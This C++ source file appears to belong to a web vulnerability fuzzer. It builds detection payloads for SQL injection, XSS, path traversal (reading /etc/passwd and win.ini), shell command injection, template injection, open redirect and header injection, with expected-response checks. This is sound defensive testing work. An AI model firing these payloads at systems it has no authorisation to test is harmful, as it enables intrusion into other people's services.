#include "analysis/fuzz_payloads.h"

#include <algorithm>
#include <array>

namespace sluice::analysis {
namespace {

using Proof = FuzzPayload::Proof;

constexpr std::array<std::pair<std::string_view, FuzzClass>, 9> kNames = {{
    {"sqli", FuzzClass::kSqli},
    {"xss", FuzzClass::kXss},
    {"path_traversal", FuzzClass::kPathTraversal},
    {"command_injection", FuzzClass::kCommandInjection},
    {"ssti", FuzzClass::kSsti},
    {"open_redirect", FuzzClass::kOpenRedirect},
    {"header_injection", FuzzClass::kHeaderInjection},
    {"type_confusion", FuzzClass::kTypeConfusion},
    {"boundary", FuzzClass::kBoundary},
}};

std::vector<FuzzPayload> texts(std::initializer_list<const char*> list, Proof proof = Proof::kNone,
                               const std::string& expects = "") {
  std::vector<FuzzPayload> made;
  for (const char* text : list) made.push_back({text, std::nullopt, false, proof, expects});
  return made;
}

void append(std::vector<FuzzPayload>& list, std::vector<FuzzPayload> more) {
  for (FuzzPayload& one : more) list.push_back(std::move(one));
}

std::vector<FuzzPayload> sqli() {
  std::vector<FuzzPayload> list = texts({"'", "\"", "' OR '1'='1", "1 OR 1=1", "') OR ('1'='1", "' AND '1'='2",
                                         "' ORDER BY 9999-- -", "' UNION SELECT NULL-- -", "'||(SELECT 1)||'", "1'1"});
  append(list, texts({"' AND SLEEP(3)-- -", "' AND 1=(SELECT 1 FROM pg_sleep(3))-- -", "' WAITFOR DELAY '0:0:3'-- -"},
                     Proof::kDelay));
  return list;
}

std::vector<FuzzPayload> xss(const std::string& m) {
  std::vector<FuzzPayload> list;
  for (std::string text : {"<script>alert('" + m + "')</script>", "\"><svg onload=alert('" + m + "')>",
                           "'-alert('" + m + "')-'", "<img src=x onerror=alert('" + m + "')>",
                           "javascript:alert('" + m + "')", "</script><b>" + m + "</b>", "\" autofocus onfocus=" + m}) {
    list.push_back({std::move(text), std::nullopt, false, Proof::kNone, ""});
  }
  return list;
}

std::vector<FuzzPayload> path_traversal() {
  std::vector<FuzzPayload> list = texts({"../../../../../../../../etc/passwd", "/etc/passwd",
                                         "....//....//....//....//....//etc/passwd", "file:///etc/passwd"},
                                        Proof::kText, "root:x:0:0:");
  append(list, texts({"..\\..\\..\\..\\..\\windows\\win.ini", "C:\\windows\\win.ini"}, Proof::kText, "[fonts]"));
  for (const char* encoded :
       {"..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252f..%252f..%252fetc%252fpasswd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd%00.png"}) {
    list.push_back({encoded, std::nullopt, true, Proof::kText, "root:x:0:0:"});
  }
  return list;
}

std::vector<FuzzPayload> command_injection(const std::string& m) {
  const std::string sum = "echo " + m + "$((191*7))";
  std::vector<FuzzPayload> list;
  for (std::string text : {";" + sum, "|" + sum, "&& " + sum, "`" + sum + "`", "$(" + sum + ")", "\n" + sum,
                           "';" + sum + ";'", "\";" + sum + ";\""}) {
    list.push_back({std::move(text), std::nullopt, false, Proof::kText, m + "1337"});
  }
  append(list, texts({";sleep 3", "$(sleep 3)"}, Proof::kDelay));
  return list;
}

std::vector<FuzzPayload> ssti(const std::string& m) {
  std::vector<FuzzPayload> list;
  for (const char* sum : {"{{191*7}}", "${191*7}", "<%= 191*7 %>", "#{191*7}", "{{=191*7}}", "*{191*7}", "@(191*7)",
                          "{191*7}", "#set($x=191*7)${x}"}) {
    list.push_back({m + sum + m, std::nullopt, false, Proof::kText, m + "1337" + m});
  }
  return list;
}

std::vector<FuzzPayload> open_redirect(const std::string& m) {
  std::vector<FuzzPayload> list;
  const std::string host = m + ".example";
  for (std::string text : {"https://" + host + "/", "//" + host + "/", "/\\" + host + "/", "https:" + host,
                           "\\\\" + host, "https://localhost@" + host + "/"}) {
    list.push_back({std::move(text), std::nullopt, false, Proof::kLocation, host});
  }
  return list;
}

std::vector<FuzzPayload> header_injection(const std::string& m) {
  std::vector<FuzzPayload> list;
  for (std::string text : {"a\r\nX-" + m + ": 1", "a\nX-" + m + ": 1", "a\r\n\r\n" + m}) {
    list.push_back({std::move(text), std::nullopt, false, Proof::kHeader, "x-" + m});
  }
  for (std::string text : {"a%0d%0aX-" + m + ":%201", "a%0aX-" + m + ":%201", "a%E5%98%8A%E5%98%8DX-" + m + ":%201"}) {
    list.push_back({std::move(text), std::nullopt, true, Proof::kHeader, "x-" + m});
  }
  return list;
}

std::vector<FuzzPayload> type_confusion() {
  std::vector<FuzzPayload> list;
  for (const char* json : {"null", "true", "0", "-1", "\"\"", "\"text\"", "[]", "{}", "[null]", "{\"$ne\":null}",
                           "{\"$gt\":\"\"}", "1e308", "[[[[]]]]"}) {
    FuzzPayload one{json, *parse_json(json), false, Proof::kNone, ""};
    if (one.json->is_string()) one.text = one.json->get<std::string>();
    list.push_back(std::move(one));
  }
  return list;
}

std::vector<FuzzPayload> boundary() {
  std::vector<FuzzPayload> list = texts({"",
                                         " ",
                                         "0",
                                         "-1",
                                         "-0",
                                         "2147483648",
                                         "-2147483649",
                                         "9223372036854775808",
                                         "-9223372036854775809",
                                         "18446744073709551616",
                                         "0.0000000000000001",
                                         "1e309",
                                         "NaN",
                                         "0x10",
                                         "010",
                                         "0000-00-00",
                                         "2038-01-20",
                                         "9999-12-31T23:59:60Z",
                                         "\xF0\x9F\x98\x80",
                                         "e\xCC\x81",
                                         "\xE2\x80\xAE",
                                         "null",
                                         "undefined"});
  list.push_back({std::string(1, '\0'), std::nullopt, false, Proof::kNone, ""});
  for (const std::size_t length : {256u, 4'096u, 65'537u}) {
    list.push_back({std::string(length, 'A'), std::nullopt, false, Proof::kNone, ""});
  }
  return list;
}

}  // namespace

std::optional<FuzzClass> find_fuzz_class(std::string_view name) {
  const auto found = std::find_if(kNames.begin(), kNames.end(), [&](const auto& one) { return one.first == name; });
  return found == kNames.end() ? std::nullopt : std::optional(found->second);
}

std::vector<FuzzPayload> fuzz_payloads(FuzzClass kind, const std::string& marker) {
  switch (kind) {
    case FuzzClass::kSqli:
      return sqli();
    case FuzzClass::kXss:
      return xss(marker);
    case FuzzClass::kPathTraversal:
      return path_traversal();
    case FuzzClass::kCommandInjection:
      return command_injection(marker);
    case FuzzClass::kSsti:
      return ssti(marker);
    case FuzzClass::kOpenRedirect:
      return open_redirect(marker);
    case FuzzClass::kHeaderInjection:
      return header_injection(marker);
    case FuzzClass::kTypeConfusion:
      return type_confusion();
    case FuzzClass::kBoundary:
      return boundary();
  }
  return {};
}

std::vector<FuzzPayload> own_payloads(const std::vector<std::string>& given) {
  std::vector<FuzzPayload> list;
  for (const std::string& text : given) list.push_back({text, std::nullopt, false, Proof::kNone, ""});
  return list;
}

}  // namespace sluice::analysis
